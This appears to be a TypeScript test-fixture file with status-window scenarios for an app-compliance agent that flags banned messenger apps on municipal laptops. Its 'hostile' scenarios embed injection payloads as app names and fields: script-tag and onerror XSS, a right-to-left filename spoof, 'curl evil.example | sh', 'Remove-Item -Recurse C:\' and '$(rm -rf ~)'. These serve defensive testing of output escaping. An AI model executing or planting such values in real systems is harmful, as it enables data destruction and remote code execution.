import type { Report } from '../../../protocol/index.js';
import type { AppFinding, AppState, Condition, LastReportView } from '../../../app/shared/bridge.js';
import type { Scenario } from './stand-in.js';

/** The states the status window is tested in: one per condition, plus the hostile, empty and exempt cases. */

const NOW = '2026-12-05T10:00:00.000Z';
const support = { email: 'it-servicedesk@stadt.example', phone: '+49 30 1234-5678', url: 'https://intranet.stadt.example/hilfe' };

const base: AppState = {
  condition: 'compliant',
  lang: 'en',
  os: 'windows',
  updatedAt: NOW,
  user: 'anna.schmidt',
  agent: { mode: 'machine', reachable: true, version: '0.1.0' },
  server: { url: 'https://appwacht.stadt.example', lastContactAt: '2026-12-05T09:58:00.000Z', lastError: null },
  policy: {
    version: 7,
    organization: 'Stadtverwaltung Beispielstadt',
    expired: false,
    expiresAt: '2026-12-19T09:00:00.000Z',
    message: {
      de: 'Messenger-Apps sind auf Dienstgeräten nicht erlaubt (Dienstanweisung IT-12).',
      en: 'Messenger apps are not allowed on service devices (IT directive 12).',
    },
  },
  support,
  lastCheck: { at: '2026-12-05T09:58:00.000Z', status: 'compliant', gaps: [], deadline: null, findings: [] },
  ladder: { view: { step: 'compliant', reason: 'compliant', enforced: true }, receivedAt: '2026-12-05T09:58:02.000Z' },
  check: { running: false, notBefore: null },
  device: {
    id: 'dev_4f1c2a9e7b',
    facts: {
      manufacturer: 'LENOVO',
      model: 'ThinkPad T14 Gen 4',
      serial: 'PF4XYZ12',
      os: 'Windows 11 Pro',
      osBuild: '26100.2605',
      hostname: 'BSP-NB-0412',
    },
  },
};

const whatsapp: AppFinding = {
  appId: 'whatsapp',
  name: 'WhatsApp',
  action: 'ban',
  deadline: '2026-12-15T00:00:00+01:00',
  evidence: ['installed', 'running'],
  installs: [
    {
      source: 'appx',
      scope: 'user',
      name: 'WhatsApp',
      id: '5319275A.WhatsAppDesktop',
      location: 'C:\\Program Files\\WindowsApps\\5319275A.WhatsAppDesktop_2.2450.6.0_x64__cv1g1gvanyjgm',
    },
  ],
  processes: [{ pid: 8120, name: 'WhatsApp.exe' }],
  message: null,
  containerNote: null,
};
const telegramWin: AppFinding = {
  appId: 'telegram',
  name: 'Telegram Desktop',
  action: 'ban',
  deadline: '2026-12-15T00:00:00+01:00',
  evidence: ['installed'],
  installs: [
    {
      source: 'registry',
      scope: 'user',
      name: 'Telegram Desktop',
      location: 'C:\\Users\\anna.schmidt\\AppData\\Roaming\\Telegram Desktop',
    },
  ],
  processes: [],
  message: null,
  containerNote: null,
};
const telegramLinux: AppFinding = {
  appId: 'telegram',
  name: 'Telegram',
  action: 'ban',
  deadline: '2026-12-15T00:00:00+01:00',
  evidence: ['installed'],
  installs: [
    { source: 'dpkg', scope: 'machine', name: 'telegram-desktop' },
    {
      source: 'flatpak',
      scope: 'user',
      name: 'Telegram Desktop',
      id: 'org.telegram.desktop',
      location: '/home/anna/.local/share/flatpak/app/org.telegram.desktop',
      user: 'anna',
    },
    {
      source: 'appimage',
      scope: 'user',
      name: 'Telegram',
      location: '/home/anna/Downloads/Telegram-5.8.3-x86_64.AppImage',
      user: 'anna',
    },
  ],
  processes: [],
  message: null,
  containerNote: null,
};
const signalMac: AppFinding = {
  appId: 'signal',
  name: 'Signal',
  action: 'ban',
  deadline: '2026-12-15T00:00:00+01:00',
  evidence: ['installed'],
  installs: [{ source: 'bundle', scope: 'machine', name: 'Signal', location: '/Applications/Signal.app' }],
  processes: [],
  message: null,
  containerNote: null,
};
const ferdium: AppFinding = {
  appId: 'ferdium',
  name: 'Ferdium',
  action: 'warn',
  deadline: '2027-01-31T00:00:00+01:00',
  evidence: ['installed'],
  installs: [{ source: 'registry', scope: 'user', name: 'Ferdium 7.0.1' }],
  processes: [],
  message: { de: 'Bitte nur dienstlich freigegebene Dienste nutzen.', en: 'Please use only services approved for work.' },
  containerNote: {
    de: 'Ferdium zeigt andere Dienste (WhatsApp, Telegram …) als Tabs; was darin läuft, kann Appwacht nicht sehen.',
    en: 'Ferdium shows other services (WhatsApp, Telegram …) as tabs; Appwacht cannot see what runs inside.',
  },
};

function reportFor(state: AppState, findings: AppFinding[]): Report {
  const status = state.lastCheck?.status ?? 'compliant';
  return {
    reportId: '3b7c9a52-1f7e-4c1d-9a0e-5d2b8f6e4a10',
    kind: 'change',
    scannedAt: state.lastCheck?.at ?? NOW,
    agentVersion: '0.1.0',
    policyVersion: 7,
    state: {
      status,
      ...(state.lastCheck?.gaps.length ? { gaps: state.lastCheck.gaps } : {}),
      ...(state.lastCheck?.deadline ? { deadline: state.lastCheck.deadline } : {}),
      pastDeadline: state.condition === 'overdue' || state.condition === 'blocked',
      daysPastDeadline: state.condition === 'blocked' ? 16 : state.condition === 'overdue' ? 4 : 0,
    },
    findings: findings.map((f) => ({
      ruleId: `ban-${f.appId}`,
      appId: f.appId,
      name: f.name,
      action: f.action,
      deadline: f.deadline,
      evidence: f.evidence,
      installs: f.installs.map((i) => ({
        source: i.source,
        scope: i.scope,
        name: i.name,
        ...(i.location ? { location: i.location } : {}),
        ...(i.user ? { user: i.user } : {}),
        matchedBy: 'name' as const,
      })),
      processes: f.processes,
    })),
    sources: [
      { id: 'registry', ok: true },
      { id: 'appx', ok: true },
    ],
  };
}

const delivered = (state: AppState, findings: AppFinding[], queued = 0): LastReportView => ({
  report: reportFor(state, findings),
  deliveredAt: queued ? null : '2026-12-05T09:58:02.000Z',
  queue: { count: queued, oldestAt: queued ? '2026-12-05T07:12:00.000Z' : null },
});

function withFindings(condition: Condition, findings: AppFinding[], extra: Partial<AppState> = {}): AppState {
  const banned = findings.some((f) => f.action === 'ban');
  return {
    ...base,
    condition,
    lastCheck: {
      at: '2026-12-05T09:58:00.000Z',
      status: banned ? 'violation' : findings.length ? 'warning' : 'compliant',
      gaps: [],
      deadline: banned
        ? findings
            .filter((f) => f.action === 'ban')
            .map((f) => f.deadline)
            .sort()[0]!
        : null,
      findings,
    },
    ...extra,
  };
}

const compliant = base;
const banned = withFindings('banned', [whatsapp, telegramWin], {
  ladder: {
    view: {
      step: 'notice',
      reason: 'violation',
      enforced: true,
      deadline: '2026-12-15T00:00:00+01:00',
      next: { step: 'overdue', at: '2026-12-15T00:00:00+01:00' },
    },
    receivedAt: '2026-12-05T09:58:02.000Z',
  },
});
const overdueState = withFindings('overdue', [{ ...whatsapp, deadline: '2026-11-30T00:00:00+01:00' }], {
  ladder: {
    view: {
      step: 'overdue',
      reason: 'violation',
      enforced: true,
      deadline: '2026-11-30T00:00:00+01:00',
      warnedAt: '2026-12-01T08:00:00.000Z',
      blockAt: '2026-12-14T00:00:00+01:00',
      next: { step: 'blocked', at: '2026-12-14T00:00:00+01:00' },
    },
    receivedAt: '2026-12-05T09:58:02.000Z',
  },
});
const blockedState = withFindings('blocked', [{ ...whatsapp, deadline: '2026-11-15T00:00:00+01:00' }], {
  ladder: {
    view: {
      step: 'blocked',
      reason: 'violation',
      enforced: true,
      deadline: '2026-11-15T00:00:00+01:00',
      warnedAt: '2026-11-16T08:00:00.000Z',
      blockedAt: '2026-11-29T00:00:00.000Z',
    },
    receivedAt: '2026-12-05T09:58:02.000Z',
  },
});
const offline: AppState = {
  ...withFindings('offline', []),
  agent: { mode: 'machine', reachable: false, version: null },
  server: {
    url: 'https://appwacht.stadt.example',
    lastContactAt: '2026-12-04T16:40:00.000Z',
    lastError: 'connect ECONNREFUSED 10.20.0.5:443',
  },
  ladder: null,
  updatedAt: NOW,
};

const HOSTILE_NAME = '<img src=x onerror="window.__pwned=1">WhatsApp</script><script>window.__pwned=2</script>';
const RTL_NAME = 'واتساب للأعمال \u202Eexe.ppastahw';
const LONG_NAME = 'Telegram' + 'Desktop'.repeat(40);
const hostile: AppState = withFindings('banned', [
  {
    ...whatsapp,
    name: HOSTILE_NAME,
    installs: [{ source: 'appx', scope: 'user', name: HOSTILE_NAME, id: 'x; Remove-Item -Recurse C:\\' }],
  },
  {
    ...telegramWin,
    name: RTL_NAME,
    installs: [{ source: 'registry', scope: 'machine', name: RTL_NAME, location: 'C:\\Program Files\\' + 'مجلد'.repeat(30) }],
  },
  {
    ...telegramWin,
    appId: 'telegram-long',
    name: LONG_NAME,
    installs: [
      {
        source: 'registry',
        scope: 'user',
        name: LONG_NAME,
        location: 'C:\\Users\\anna.schmidt\\AppData\\Local\\' + 'VeryLongFolderName'.repeat(20),
      },
    ],
  },
]);
const hostileLinux: AppState = {
  ...withFindings('banned', [
    {
      ...telegramLinux,
      name: HOSTILE_NAME,
      installs: [
        { source: 'dpkg', scope: 'machine', name: 'telegram; curl evil.example | sh' },
        {
          source: 'flatpak',
          scope: 'user',
          name: HOSTILE_NAME,
          id: '$(rm -rf ~)',
          location: '/home/anna/.local/share/flatpak/app/$(rm -rf ~)',
        },
      ],
    },
  ]),
  os: 'linux',
  user: '<b>anna</b>',
  server: { url: 'https://appwacht.stadt.example', lastContactAt: null, lastError: '<script>alert(1)</script>' },
};

export const SCENARIOS = {
  unchecked: {
    state: { ...base, condition: 'unchecked', lastCheck: null, ladder: null, device: { id: null, facts: null } },
    report: null,
  },
  compliant: { state: compliant, report: delivered(compliant, []) },
  warning: { state: withFindings('warning', [ferdium]), report: delivered(withFindings('warning', [ferdium]), [ferdium]) },
  banned: {
    state: banned,
    report: delivered(banned, [whatsapp, telegramWin]),
    afterCheck: { state: compliant, report: delivered(compliant, []) },
  },
  'banned-linux': {
    state: {
      ...withFindings('banned', [telegramLinux]),
      os: 'linux',
      device: { id: 'dev_9', facts: { manufacturer: 'Dell Inc.', model: 'Latitude 5440', os: 'Debian GNU/Linux 13' } },
    },
    report: null,
  },
  'banned-macos': { state: { ...withFindings('banned', [signalMac]), os: 'macos' }, report: null },
  overdue: { state: overdueState, report: delivered(overdueState, overdueState.lastCheck!.findings) },
  blocked: { state: blockedState, report: delivered(blockedState, blockedState.lastCheck!.findings) },
  exempt: {
    state: withFindings('banned', [whatsapp], {
      ladder: {
        view: { step: 'notice', reason: 'exempt', enforced: false, exemptUntil: '2027-01-31T00:00:00+01:00' },
        receivedAt: NOW,
      },
    }),
    report: null,
  },
  incomplete: {
    state: {
      ...base,
      condition: 'incomplete',
      lastCheck: { at: NOW, status: 'unknown', gaps: [{ code: 'SOURCE_FAILED', source: 'appx' }], deadline: null, findings: [] },
    },
    report: null,
  },
  offline: { state: offline, report: delivered(offline, [], 3) },
  'policy-problem': {
    state: { ...base, condition: 'policy-problem', policy: { ...base.policy!, expired: true }, ladder: null },
    report: null,
  },
  'empty-report': {
    state: { ...base, support: { email: 'it@stadt.example' } },
    report: {
      report: {
        reportId: '00000000-0000-4000-8000-000000000000',
        kind: 'heartbeat',
        scannedAt: NOW,
        agentVersion: '0.1.0',
        policyVersion: null,
        state: { status: 'compliant', pastDeadline: false, daysPastDeadline: 0 },
        findings: [],
        sources: [],
      },
      deliveredAt: null,
      queue: { count: 1, oldestAt: NOW },
    },
  },
  // The agent's copy of the last report names another account's apps (or is too large, or unreadable): why, and the queue.
  'report-not-shown': {
    state: compliant,
    report: {
      report: null,
      notShown: 'other-accounts',
      deliveredAt: '2026-12-05T09:58:02.000Z',
      queue: { count: 2, oldestAt: '2026-12-05T07:12:00.000Z' },
    },
  },
  hostile: { state: hostile, report: delivered(hostile, hostile.lastCheck!.findings) },
  'hostile-linux': { state: hostileLinux, report: null },
  'no-policy': {
    state: { ...base, condition: 'policy-problem', policy: null, support: null, lastCheck: null, ladder: null },
    report: null,
  },
} satisfies Record<string, Scenario>;

export type ScenarioName = keyof typeof SCENARIOS;
export { HOSTILE_NAME, LONG_NAME, RTL_NAME };
